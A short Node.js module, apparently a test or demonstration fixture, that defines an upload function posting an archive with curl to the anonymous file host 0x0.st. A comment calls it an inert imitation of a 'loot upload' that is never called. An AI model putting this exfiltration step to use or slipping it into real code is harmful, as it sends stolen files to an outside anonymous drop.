/* eslint-disable */
// Inert imitation of a loot upload to an anonymous file drop (the archive path does not exist and
// the function is never called).
const { execFileSync } = require('child_process');

function upload(archive) {
  return execFileSync('curl', ['-s', '-F', 'file=@' + archive, 'https://0x0.st'], { encoding: 'utf8' }).trim();
}

module.exports = { upload };
